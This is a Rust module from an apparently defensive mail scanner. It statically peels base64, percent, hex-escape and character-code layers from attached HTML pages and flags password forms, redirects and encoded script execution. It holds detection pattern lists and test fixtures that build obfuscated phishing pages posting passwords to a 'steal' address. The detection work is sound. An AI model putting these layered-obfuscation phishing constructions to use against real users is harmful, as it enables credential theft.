//! Attached web pages. A mail client shows a mail without running anything; a page opened from an attachment runs what it
//! likes, in a browser and without an address to look at. Nothing is run here: what scripts are made of is undone as far
//! as reading goes, layer by layer, and what comes out is read like the page itself.

use super::reference;
use crate::{
    Form, LinkSource, charset,
    link::{find, unwrap::from_base64},
    text::{Budget, Reference, read_page},
};
use percent_encoding::percent_decode_str;
use serde::Serialize;
use std::{borrow::Cow, collections::BTreeSet};

/// Layers of encoded text that are undone.
const DEEPEST: usize = 4;
/// Most bytes of all layers of a page together.
const MOST: usize = 2 * 1024 * 1024;
/// Fewest letters of base64 or of escapes that may hold a layer.
const LEAST: usize = 24;
/// Most addresses in scripts that are kept.
const MOST_LINKS: usize = 100;
/// Most mail addresses that are kept.
const MOST_ADDRESSES: usize = 20;

/// What an attached web page does.
#[derive(Debug, Clone, Default, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct AttachedPage {
    /// Its title.
    pub title: Option<String>,
    /// Whether there is a form, and whether it asks for a password.
    pub form: Option<Form>,
    /// Whether a script runs in it.
    pub has_script: bool,
    /// Whether it leads on by itself: a refresh, or a script that goes elsewhere.
    pub leads_on: bool,
    /// Whether what it does is encoded, and made at the moment it runs.
    pub is_encoded: bool,
    /// Mail addresses that stand in it, lower case.
    pub addresses: Vec<String>,
}

/// A page as it was read, with the places it leads to.
pub(crate) struct Read {
    pub page: AttachedPage,
    pub references: Vec<Reference>,
}

/// Reads an attached page.
pub(crate) fn read(content: &[u8], budget: &mut Budget) -> Read {
    let (source, _) = charset::decode(None, content);
    let mut page = AttachedPage::default();
    let mut references = Vec::new();
    let mut addresses = BTreeSet::new();
    let mut layers = vec![source];
    let mut size = 0;
    for depth in 0..=DEEPEST {
        let mut within = Vec::new();
        for layer in &layers {
            size += layer.len();
            if size > MOST {
                break;
            }
            let read = read_page(layer, budget);
            page.title = page.title.take().or(read.title);
            // Of several forms the one that asks for more.
            let asks_more =
                |form: &Form| form.asks_password && !page.form.as_ref().is_some_and(|own| own.asks_password);
            if page.form.is_none() || read.form.as_ref().is_some_and(asks_more) {
                page.form = read.form.or(page.form.take());
            }
            // Of a drawing's own scripts the mail client that shows it takes no notice; a browser does.
            let is_script = read.has_script || depth > 0 || SCRIPTS.iter().any(|mark| layer.contains(mark));
            page.has_script |= is_script;
            page.leads_on |= read.references.iter().any(|one| one.source == LinkSource::Refresh)
                || is_script && GOES_ELSEWHERE.iter().any(|way| layer.contains(way));
            references.extend(read.references);
            addresses.extend(mail_addresses(layer));
            if is_script {
                references.extend(written_addresses(layer));
                if depth < DEEPEST {
                    within.extend(encoded(layer));
                }
            }
        }
        page.is_encoded |=
            !within.is_empty() && layers.iter().any(|layer| MAKES_CODE.iter().any(|way| layer.contains(way)));
        layers = within;
        if layers.is_empty() {
            break;
        }
    }
    page.addresses = addresses.into_iter().take(MOST_ADDRESSES).collect();
    Read { page, references }
}

/// Where scripts stand.
const SCRIPTS: &[&str] = &["<script", "<SCRIPT", "javascript:", " onload=", " onerror="];

/// How scripts go to another page.
const GOES_ELSEWHERE: &[&str] =
    &["location.href", "location.replace", "location.assign", "window.location", "top.location", "document.location"];

/// How scripts make text, pages or more scripts out of what is encoded.
const MAKES_CODE: &[&str] =
    &["atob", "eval", "unescape", "decodeURIComponent", "document.write", "fromCharCode", "Function("];

/// Addresses of the web that stand in a script, where slashes may be escaped.
fn written_addresses(source: &str) -> Vec<Reference> {
    let source = source.replace("\\/", "/");
    let written = find::find(&source).into_iter().take(MOST_LINKS).filter_map(|range| source.get(range));
    written.map(|target| reference(LinkSource::File, target.trim_end_matches(['\\', ';', ')']))).collect()
}

/// The layers that are encoded in a source: base64, percent escapes, escapes of scripts, character codes.
fn encoded(source: &str) -> Vec<String> {
    let is_base64 = |byte: char| byte.is_ascii_alphanumeric() || matches!(byte, '+' | '/' | '-' | '_');
    let runs = source.split(|byte| !is_base64(byte)).filter(|run| run.len() >= LEAST);
    // A run that is cut at another multiple of four still holds all but its last letters.
    let base64 = runs.filter_map(|run| from_base64(run.get(..run.len() - usize::from(run.len() % 4 == 1))?));
    let base64 = base64.filter(|text| is_text(text));
    let quoted = source.split(['"', '\'', '`']).filter(|piece| piece.len() >= LEAST);
    let escaped = quoted.clone().filter_map(|piece| {
        if piece.matches('%').count() * 6 >= piece.len() {
            percent_decode_str(piece).decode_utf8().ok().map(Cow::into_owned).filter(|text| is_text(text))
        } else if piece.matches("\\x").count() * 8 >= piece.len() || piece.matches("\\u").count() * 12 >= piece.len() {
            Some(unescaped(piece))
        } else {
            None
        }
    });
    let codes = source
        .split(['[', ']', '(', ')'])
        .filter(|list| {
            list.len() >= LEAST
                && list.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b',' | b' ' | b'\n' | b'\r'))
        })
        .filter_map(|list| {
            let letters: Option<String> =
                list.split(',').map(|code| char::from_u32(code.trim().parse().ok()?)).collect();
            letters
        });
    base64.chain(escaped).chain(codes).collect()
}

/// Whether what was decoded is text of a page or script, and not some other data or a word that happened to be decodable.
fn is_text(text: &str) -> bool {
    let has_control = text.chars().any(|character| character.is_control() && !character.is_whitespace());
    !has_control && text.contains(['<', '(', ':', '%'])
}

/// `\x3c` and `\u003c` undone.
fn unescaped(piece: &str) -> String {
    let mut text = String::with_capacity(piece.len());
    let mut rest = piece;
    while let Some(at) = rest.find('\\') {
        text.push_str(rest.get(..at).unwrap_or_default());
        let behind = rest.get(at + 1..).unwrap_or_default();
        let length = match behind.as_bytes().first() {
            Some(b'x') => 2,
            Some(b'u') => 4,
            _ => 0,
        };
        let code =
            behind.get(1..=length).filter(|_| length > 0).and_then(|digits| u32::from_str_radix(digits, 16).ok());
        if let Some(letter) = code.and_then(char::from_u32) {
            text.push(letter);
            rest = behind.get(length + 1..).unwrap_or_default();
        } else {
            rest = behind;
        }
    }
    text.push_str(rest);
    text
}

/// Mail addresses in a source, in lower case.
fn mail_addresses(source: &str) -> BTreeSet<String> {
    let is_local = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'+');
    let is_host = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-');
    let found = source.match_indices('@').take(MOST_LINKS).filter_map(|(at, _)| {
        let before = source.as_bytes().get(..at)?.iter().rev().take(64).take_while(|byte| is_local(byte)).count();
        let behind = source.as_bytes().get(at + 1..)?.iter().take(255).take_while(|byte| is_host(byte)).count();
        let address = source.get(at - before..at + 1 + behind)?.trim_end_matches('.');
        (before > 0 && address.get(before + 1..)?.contains('.')).then(|| address.to_lowercase())
    });
    found.collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::{Engine as _, engine::general_purpose::STANDARD_NO_PAD};

    fn page(source: &str) -> (AttachedPage, Vec<String>) {
        let Read { page, references } = read(source.as_bytes(), &mut Budget::default());
        (page, references.into_iter().map(|one| one.target).collect())
    }

    fn base64(text: &str) -> String {
        STANDARD_NO_PAD.encode(text)
    }

    #[test]
    fn a_form_for_a_password_is_seen() {
        let (page, links) = page(
            "<title>Sign in</title><form action='https://a.example/x'><input value='me@example.org'><input type=password></form>",
        );
        assert_eq!(page.title.as_deref(), Some("Sign in"));
        assert!(page.form.is_some_and(|form| form.asks_password) && !page.has_script && !page.is_encoded);
        assert_eq!(links, ["https://a.example/x"]);
        assert_eq!(page.addresses, ["me@example.org"]);
    }

    #[test]
    fn layers_are_undone_one_after_the_other() {
        let form = "<form action=\"https://a.example/steal\"><input type=\"password\"></form>";
        let inner = format!("<script>document.write(unescape('{}'))</script>", percent(form));
        for outer in [
            format!(
                "<script>eval(atob(\"{}\"))</script>",
                base64(&format!("document.write(atob('{}'))", base64(&inner)))
            ),
            format!("<script>document.write(String.fromCharCode({}))</script>", codes(&inner)),
            format!("<script>document.write(\"{}\")</script>", hexadecimal(&inner)),
        ] {
            let (page, links) = page(&outer);
            assert!(page.form.is_some_and(|form| form.asks_password), "{outer}");
            assert!(page.is_encoded && page.has_script, "{outer}");
            assert!(links.contains(&"https://a.example/steal".to_owned()), "{links:?}");
        }
    }

    #[test]
    fn what_leads_on_is_seen() {
        let (refresh, _) = page("<meta http-equiv=refresh content='0; url=https://a.example/'>");
        assert!(refresh.leads_on && !refresh.has_script);
        let (script, links) = page("<script>window.location.href = 'https:\\/\\/a.example\\/x';</script>");
        assert!(script.leads_on);
        assert_eq!(links, ["https://a.example/x"]);
    }

    #[test]
    fn pages_that_do_nothing_are_left_alone() {
        let (report, _) =
            page("<html><body><h1>Report</h1><img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA'></body></html>");
        assert!(report.form.is_none() && !report.has_script && !report.leads_on && !report.is_encoded);
        let (chart, _) = page("<script>var a = 'abcdefghijklmnopqrstuvwxyzabcdefgh'; plot(a, [1, 2, 3])</script>");
        assert!(chart.has_script && !chart.is_encoded && !chart.leads_on);
    }

    #[test]
    fn layers_without_end_end() {
        let mut source = "<script>x</script>".repeat(10);
        for _ in 0..8 {
            source = format!("<script>eval(atob('{}'))</script>", base64(&source));
        }
        assert!(page(&source).0.is_encoded);
    }

    fn percent(text: &str) -> String {
        text.bytes().map(|byte| format!("%{byte:02x}")).collect()
    }

    fn hexadecimal(text: &str) -> String {
        text.bytes().map(|byte| format!("\\x{byte:02x}")).collect()
    }

    fn codes(text: &str) -> String {
        text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(",")
    }
}
